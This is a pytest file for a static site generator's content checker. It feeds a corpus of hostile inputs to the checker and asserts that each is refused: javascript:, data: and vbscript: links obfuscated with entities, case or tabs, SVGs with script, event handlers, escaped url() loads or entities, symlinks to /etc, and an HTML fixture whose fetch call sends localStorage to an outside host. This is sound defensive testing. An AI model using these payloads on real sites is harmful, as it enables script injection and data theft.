"""Nothing an author writes can run in a reader's browser or reach outside the site.

A corpus of hostile content: each input is either refused by `python -m generator check`
with one ``file:line`` line (here), or built into pages where Chromium runs nothing, shows
the text as text and makes no request outside the site (test_escaping.py). Hostile
YAML itself (aliases, nesting, size, links) is in test_hostile_yaml.py.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from generator.svg import svg_problem

from .support.hostile import (
    ASSETS,
    Hostile,
    add_file,
    add_link,
    assert_refused_in_one_line,
    both,
    edit,
    logo,
)
from .support.sites import FIXTURE_TOOLKIT, build_site
from .test_validation_errors import ALPHA, GUIDE, HOME, RESOURCES, SITE, copy_fixture

SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{}</svg>'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
INTRO = "stages[0].intro"
WRES = "[WRES](resource:wres)"
KINDS = "use http:, https:, mailto:, tel:, resource:, page:, programme:, question: links"
UNKNOWN_KIND = (
    "expected resource:, page:, programme:, question: or a web address starting with https://"
)
IMAGE_RULE = (
    "images must be files in content/assets/ (png, jpg, gif, webp or svg), written like"
    " assets/chart.png"
)
NOT_ALLOWED = (
    "file not allowed here: content/ holds the YAML content files and, in content/assets/,"
    " images (png, jpg, gif, webp, svg) and PDFs; move it or delete it"
)
LINKED = "is a symbolic link, which the toolkit does not follow: put the real file or folder here"
LOGO_RULE = "the logo must be an image in content/assets/, like assets/logo.svg"
SVG_ELEMENT_RULE = (
    "element not allowed in an SVG image, which may hold only these SVG elements: circle,"
    " clipPath, defs, desc, ellipse, g, line, linearGradient, marker, mask, metadata, path,"
    " pattern, polygon, polyline, radialGradient, rect, stop, svg, symbol, text, title, tspan,"
    " use (and RDF, Dublin Core or Creative Commons descriptions in <metadata>); save it as"
    " plain SVG"
)
SVG_ATTRIBUTE_RULE = (
    "attribute not allowed in an SVG image, which may have only presentation and geometry"
    " attributes (fill, stroke, opacity, transform, x, y, width, height, d, points and the"
    " like), id, class, style, viewBox, version, xml:space, xml:lang, and href or xlink:href to"
    " an #id in the image; save it as plain SVG"
)
SVG_HREF_RULE = "may only name a part of the image, like #shape"
SVG_URL_RULE = "url() may only name a part of the image, like url(#gradient)"
SVG_BACKSLASH_RULE = "a backslash (a CSS escape) is not allowed in an SVG image's attributes"
SVG_STYLE_RULE = (
    "is not allowed in an SVG image's style, which may set only the properties allowed as"
    " attributes (fill, stroke, opacity and the like)"
)
SVG_FUNCTION_RULE = (
    "is not allowed in an SVG image: values may use only url(#id), colours (rgb(), hsl() and"
    " the like), calc(), min(), max(), clamp() and transforms (translate(), rotate() and the"
    " like)"
)

CORPUS = [
    # Links that would run script, judged as the browser reads them.
    Hostile(
        "link-in-angle-brackets",
        edit(GUIDE, WRES, "[A](<javascript:alert(1)>)"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'javascript:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "link-with-entity-colon",
        edit(GUIDE, WRES, "[B](javascript&#58;alert(2))"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'javascript:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "link-with-hex-entity-letter",
        edit(GUIDE, WRES, "[B](&#x6a;avascript:alert(2))"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'javascript:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "reference-definition",
        edit(
            HOME,
            "privacy: Kept in this browser only.",
            "privacy: |\n  See [c].\n\n  [c]: javascript:alert(3)",
        ),
        f"{HOME}:21: privacy: unknown kind of link 'javascript:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "mixed-case-scheme",
        edit(GUIDE, WRES, "[E](JaVaScRiPt:alert(1))"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'JaVaScRiPt:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "data-link",
        edit(GUIDE, WRES, "[F](data:text/html,<script>alert(1)</script>)"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'data:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "vbscript-link",
        edit(GUIDE, WRES, "[G](vbscript:msgbox(1))"),
        f"{GUIDE}:6: {INTRO}: unknown kind of link 'vbscript:'; {UNKNOWN_KIND}",
    ),
    Hostile(
        "protocol-relative-link",
        edit(GUIDE, WRES, "[H](//tracker.example/x)"),
        f"{GUIDE}:6: {INTRO}: an address starting with '//' leaves this site; write it with"
        " https://",
    ),
    Hostile(
        "link-with-a-tab-in-its-scheme",
        edit(GUIDE, WRES, "[I](java\tscript:alert(1))"),
        f"{GUIDE}:6: {INTRO}: this address is not a link a browser can follow; {KINDS}",
    ),
    # Images: only files in content/assets.
    Hostile(
        "image-from-another-server",
        edit(GUIDE, WRES, "![x](https://tracker.example/p.png)"),
        f"{GUIDE}:6: {INTRO}: image 'https://tracker.example/p.png' is not allowed: {IMAGE_RULE}",
    ),
    Hostile(
        "image-outside-assets",
        edit(GUIDE, WRES, "![x](../framework/secret.png)"),
        f"{GUIDE}:6: {INTRO}: image '../framework/secret.png' is not allowed: {IMAGE_RULE}",
    ),
    Hostile(
        "image-missing",
        edit(GUIDE, WRES, "![x](assets/chart.png)"),
        f"{GUIDE}:6: {INTRO}: image file not found: expected it at content/assets/chart.png",
    ),
    # Addresses in settings.
    Hostile(
        "resource-address-with-script",
        edit(RESOURCES, "url: https://example.org/wres", "url: javascript:alert(1)"),
        f"{RESOURCES}:11: groups[0].resources[1].url: bad address 'javascript:alert(1)':"
        " expected a web address starting with https:// or http://, a mailto: or tel: address,"
        " or a path on your intranet starting with /",
    ),
    Hostile(
        "site-address-that-ends-an-attribute",
        edit(
            SITE,
            "storage_namespace:",
            "address: 'https://x.example/\"><script>1</script>'\nstorage_namespace:",
        ),
        f"{SITE}:5: address: bad address 'https://x.example/\"><script>1</script>': expected a"
        " web address starting with https:// or http://, a mailto: or tel: address, or a path"
        " on your intranet starting with /",
    ),
    Hostile(
        "programme-link-protocol-relative",
        edit(ALPHA, "url: https://example.org/alpha", "url: //tracker.example/alpha"),
        f"{ALPHA}:19: links[0].url: bad address '//tracker.example/alpha': expected a web"
        " address starting with https:// or http://, a mailto: or tel: address, or a path on"
        " your intranet starting with /",
    ),
    # Files in content/.
    Hostile(
        "markdown-page-with-script",
        add_file("content/notes.md", "# Notes\n\n<script>alert(1)</script>\n"),
        f"content/notes.md: {NOT_ALLOWED}",
    ),
    Hostile(
        "html-file-that-reads-storage",
        add_file(
            "content/page.html", "<script>fetch('//x?'+JSON.stringify(localStorage))</script>"
        ),
        f"content/page.html: {NOT_ALLOWED}",
    ),
    Hostile(
        "script-file-in-assets",
        add_file(f"{ASSETS}/app.js", "alert(1)"),
        f"{ASSETS}/app.js: {NOT_ALLOWED}",
    ),
    Hostile(
        "unknown-yaml-file",
        add_file("content/extra.yml", "title: x\n"),
        "content/extra.yml: not a content file: expected one of guide.yml, home.yml,"
        " journal.yml, plan.yml, programmes.yml, resources.yml, site.yml",
    ),
    Hostile(
        "svg-with-script",
        logo("logo.svg", SVG.format("<script>alert(1)</script>")),
        f"{ASSETS}/logo.svg:1: <script>: {SVG_ELEMENT_RULE}",
    ),
    Hostile(
        "svg-with-event-handler",
        add_file(f"{ASSETS}/a.svg", SVG.format('<rect width="9" height="9" onload="alert(1)"/>')),
        f"{ASSETS}/a.svg:1: <rect onload>: {SVG_ATTRIBUTE_RULE}",
    ),
    Hostile(
        "svg-with-outside-reference",
        add_file(
            f"{ASSETS}/b.svg",
            SVG.format(f'<image {XLINK} xlink:href="https://tracker.example/p.png"/>'),
        ),
        f"{ASSETS}/b.svg:1: <image>: {SVG_ELEMENT_RULE}",
    ),
    Hostile(
        "svg-use-of-another-file",
        add_file(f"{ASSETS}/b.svg", SVG.format('<use href="other.svg#shape"/>')),
        f"{ASSETS}/b.svg:1: <use href>: {SVG_HREF_RULE} (found 'other.svg#shape')",
    ),
    Hostile(
        "svg-with-style-that-loads",
        add_file(f"{ASSETS}/c.svg", SVG.format("<style>rect{fill:url(https://x/y)}</style>")),
        f"{ASSETS}/c.svg:1: <style>: {SVG_ELEMENT_RULE}",
    ),
    Hostile(
        "svg-with-escaped-url-in-a-style-element",
        add_file(
            f"{ASSETS}/c.svg",
            SVG.format("<style>rect{fill:u\\72l(http://127.0.0.1:9/x)}</style><rect/>"),
        ),
        f"{ASSETS}/c.svg:1: <style>: {SVG_ELEMENT_RULE}",
    ),
    Hostile(
        "svg-with-entities",
        add_file(
            f"{ASSETS}/d.svg",
            '<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + SVG.format("<text>&a;</text>"),
        ),
        f"{ASSETS}/d.svg:1: SVG image with a DOCTYPE or entities: save it as plain SVG",
    ),
    Hostile(
        "svg-in-utf-16-with-entities",
        add_file(
            f"{ASSETS}/d.svg",
            ('<!DOCTYPE svg [<!ENTITY a "aaaa">]>\n' + SVG.format("<text>&a;</text>")).encode(
                "utf-16"
            ),
        ),
        f"{ASSETS}/d.svg:1: SVG image with a DOCTYPE or entities: save it as plain SVG",
    ),
    Hostile(
        "svg-with-foreign-object",
        add_file(f"{ASSETS}/e.svg", SVG.format("<foreignObject><p>x</p></foreignObject>")),
        f"{ASSETS}/e.svg:1: <foreignObject>: {SVG_ELEMENT_RULE}",
    ),
    Hostile(
        "svg-link-that-animates-its-href",
        add_file(
            f"{ASSETS}/f.svg",
            '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href"'
            ' values="javascript:alert(document.domain)" fill="freeze"/>'
            '<rect width="10" height="10"/></a></svg>',
        ),
        f"{ASSETS}/f.svg:1: <a>: {SVG_ELEMENT_RULE}",
    ),
    Hostile(
        "svg-set-of-an-href",
        add_file(
            f"{ASSETS}/f.svg",
            SVG.format('<use href="#r"><set attributeName="href" to="data:x"/></use>'),
        ),
        f"{ASSETS}/f.svg:1: <set>: {SVG_ELEMENT_RULE}",
    ),
    Hostile(
        "svg-fill-from-another-server",
        add_file(f"{ASSETS}/g.svg", SVG.format('<rect fill="url(http://127.0.0.1:9/x#g)"/>')),
        f"{ASSETS}/g.svg:1: <rect fill>: {SVG_URL_RULE} (found 'url(http://127.0.0.1:9/x#g)')",
    ),
    Hostile(
        "svg-filter-from-another-server",
        add_file(
            f"{ASSETS}/g.svg",
            SVG.format("\n<g>\n<rect filter=\" URL('//127.0.0.1:9/f.svg#f')\"/></g>"),
        ),
        f"{ASSETS}/g.svg:3: <rect filter>: {SVG_URL_RULE}"
        " (found \" URL('//127.0.0.1:9/f.svg#f')\")",
    ),
    Hostile(
        "svg-style-attribute-with-escaped-url",
        add_file(f"{ASSETS}/g.svg", SVG.format('<rect style="fill:u\\72l(http://x/y)"/>')),
        f"{ASSETS}/g.svg:1: <rect style>: {SVG_BACKSLASH_RULE}",
    ),
    Hostile(
        "svg-attribute-with-escape-written-as-a-character-reference",
        add_file(f"{ASSETS}/g.svg", SVG.format('<rect fill="u&#92;72l(http://x/y)"/>')),
        f"{ASSETS}/g.svg:1: <rect fill>: {SVG_BACKSLASH_RULE}",
    ),
    Hostile(
        "svg-style-attribute-with-image-set",
        add_file(
            f"{ASSETS}/g.svg",
            '<svg xmlns="http://www.w3.org/2000/svg" style="fill:red;'
            " background-image:image-set('http://x/y.png' 1x)\"/>",
        ),
        f"{ASSETS}/g.svg:1: <svg style>: property 'background-image' {SVG_STYLE_RULE}",
    ),
    Hostile(
        "svg-fill-with-a-function-that-loads",
        add_file(f"{ASSETS}/g.svg", SVG.format("<rect fill=\"image('http://x/y.png')\"/>")),
        f"{ASSETS}/g.svg:1: <rect fill>: image() {SVG_FUNCTION_RULE}",
    ),
    Hostile(
        "svg-with-an-xhtml-image",
        add_file(
            f"{ASSETS}/h.svg",
            SVG.format(
                '<h:img xmlns:h="http://www.w3.org/1999/xhtml" srcset="http://x/x.png 1x"/>'
            ),
        ),
        f'{ASSETS}/h.svg:1: <img xmlns="http://www.w3.org/1999/xhtml">: {SVG_ELEMENT_RULE}',
    ),
    Hostile(
        "svg-with-xhtml-script-in-its-metadata",
        add_file(
            f"{ASSETS}/h.svg",
            SVG.format(
                '<metadata><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'
                "</metadata>"
            ),
        ),
        f'{ASSETS}/h.svg:1: <script xmlns="http://www.w3.org/1999/xhtml">: {SVG_ELEMENT_RULE}',
    ),
    Hostile(
        "svg-without-the-svg-namespace",
        add_file(f"{ASSETS}/h.svg", '<svg viewBox="0 0 9 9"><rect/></svg>'),
        f"{ASSETS}/h.svg:1: <svg> (no namespace): {SVG_ELEMENT_RULE}",
    ),
    Hostile(
        "svg-with-a-stylesheet-instruction",
        add_file(
            f"{ASSETS}/i.svg",
            '<?xml version="1.0"?>\n<?xml-stylesheet href="http://127.0.0.1:9/s.css"?>\n'
            + SVG.format("<rect/>"),
        ),
        f"{ASSETS}/i.svg:2: <?xml-stylesheet?>: processing instructions are not allowed in an"
        " SVG image: save it as plain SVG",
    ),
    Hostile(
        "svg-with-a-base-address",
        add_file(
            f"{ASSETS}/i.svg",
            '<svg xmlns="http://www.w3.org/2000/svg" xml:base="http://127.0.0.1:9/"/>',
        ),
        f"{ASSETS}/i.svg:1: <svg xml:base>: {SVG_ATTRIBUTE_RULE}",
    ),
    Hostile(
        "svg-with-editor-attributes",
        add_file(
            f"{ASSETS}/i.svg",
            SVG.format(
                '<g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"'
                ' inkscape:label="Layer 1"/>'
            ),
        ),
        f"{ASSETS}/i.svg:1: <g inkscape:label>: {SVG_ATTRIBUTE_RULE}",
    ),
    Hostile(
        "logo-linked-to-a-secret",
        both(
            add_link(f"{ASSETS}/logo.svg", "ROOT/../secret.svg"),
            edit(SITE, "storage_namespace:", "logo: assets/logo.svg\nstorage_namespace:"),
        ),
        f"{ASSETS}/logo.svg: {LINKED}",
    ),
    Hostile(
        "link-loop",
        add_link(f"{ASSETS}/loop", "ROOT/content/assets/loop"),
        f"{ASSETS}/loop: {LINKED}",
    ),
    Hostile(
        "linked-folder",
        add_link(f"{ASSETS}/more", "/etc"),
        f"{ASSETS}/more: {LINKED}",
    ),
    Hostile(
        "logo-outside-content",
        edit(SITE, "storage_namespace:", "logo: ../mkdocs.yml\nstorage_namespace:"),
        f"{SITE}:5: logo: {LOGO_RULE}",
    ),
    Hostile(
        "logo-not-an-image",
        both(
            add_file(f"{ASSETS}/guide.pdf", b"%PDF-1.4\n"),
            edit(SITE, "storage_namespace:", "logo: assets/guide.pdf\nstorage_namespace:"),
        ),
        f"{SITE}:5: logo: {LOGO_RULE}",
    ),
]


def test_the_corpus_is_large_enough() -> None:
    names = [each.name for each in CORPUS]
    assert len(set(names)) == len(names) >= 30


@pytest.mark.parametrize("hostile", CORPUS, ids=lambda each: each.name)
def test_the_check_refuses_it_with_one_line(hostile: Hostile, tmp_path: Path) -> None:
    root = copy_fixture(tmp_path)
    hostile.change(root)
    assert_refused_in_one_line(root, hostile.expected)


def test_a_refused_build_leaves_the_last_good_site(tmp_path: Path) -> None:
    site = tmp_path / "site"
    build_site(FIXTURE_TOOLKIT, site)
    before = {path: path.read_bytes() for path in site.rglob("*") if path.is_file()}
    root = copy_fixture(tmp_path)
    add_file("content/page.html", "<script>alert(1)</script>")(root)
    add_link(f"{ASSETS}/loop", "ROOT/content/assets/loop")(root)
    result = build_site(root, site, check=False)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert {path: path.read_bytes() for path in site.rglob("*") if path.is_file()} == before


def test_only_assets_are_published(tmp_path: Path) -> None:
    """What the check allows in content/ is published; the YAML files never are."""
    root = copy_fixture(tmp_path)
    add_file(f"{ASSETS}/chart.png", b"\x89PNG\r\n\x1a\n")(root)
    add_file(f"{ASSETS}/guide.pdf", b"%PDF-1.4\n")(root)
    add_file(f"{ASSETS}/.hidden", "not published")(root)
    build_site(root, tmp_path / "site")
    site = tmp_path / "site"
    assert (site / "assets" / "chart.png").read_bytes() == b"\x89PNG\r\n\x1a\n"
    assert (site / "assets" / "guide.pdf").is_file()
    assert not (site / "assets" / ".hidden").exists()
    assert not list(site.rglob("*.yml"))


PLAIN_SVGS = {
    "shapes": SVG.format('<rect width="9" height="9"/><circle cx="4" cy="4" r="2"/>'),
    "saved-as-plain-svg": (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        "<!-- Created with Inkscape (http://www.inkscape.org/) -->\n"
        '<svg xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:cc="http://creativecommons.org/ns#"'
        ' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
        ' xmlns:svg="http://www.w3.org/2000/svg" xmlns="http://www.w3.org/2000/svg"'
        f' {XLINK} width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg8">\n'
        '  <title id="title1">Fixture NHS Trust</title>\n'
        '  <defs id="defs2">\n'
        '    <linearGradient id="a"><stop offset="0" style="stop-color:#005eb8;stop-opacity:1"/>'
        '<stop offset="1" stop-color="rgb(0, 48, 135)"/></linearGradient>\n'
        '    <linearGradient xlink:href="#a" id="b" x1="0" y1="0" x2="1" y2="1"'
        ' gradientUnits="userSpaceOnUse"/>\n'
        '    <clipPath id="c" clipPathUnits="userSpaceOnUse">'
        '<path d="M 0,0 H 9 V 9 Z"/></clipPath>\n'
        "  </defs>\n"
        '  <metadata id="metadata5"><rdf:RDF><cc:Work rdf:about="">'
        "<dc:format>image/svg+xml</dc:format>"
        '<dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/>'
        "<dc:title>Logo</dc:title></cc:Work></rdf:RDF></metadata>\n"
        '  <g id="layer1" transform="translate(-1.5, 2) rotate(45) scale(2)"'
        ' clip-path="url(#c)">\n'
        '    <path id="p" style="fill:url(#b);fill-opacity:1;stroke:none;stroke-width:0.26"'
        ' d="m 10,10 h 50 v 20 z"/>\n'
        '    <use xlink:href="#p" x="5"/><use href="#p" y="calc(1px + 2px)"/>\n'
        '    <text x="0" y="20" xml:space="preserve" style="font-family:\'Frutiger\', Arial;'
        ' font-size:12px">NHS <tspan font-weight="bold">Trust</tspan></text>\n'
        "  </g>\n"
        "</svg>\n"
    ),
}


@pytest.mark.parametrize("name", PLAIN_SVGS)
def test_plain_svg_images_pass(name: str, tmp_path: Path) -> None:
    path = tmp_path / "logo.svg"
    path.write_text(PLAIN_SVGS[name], encoding="utf-8")
    assert svg_problem(path) is None
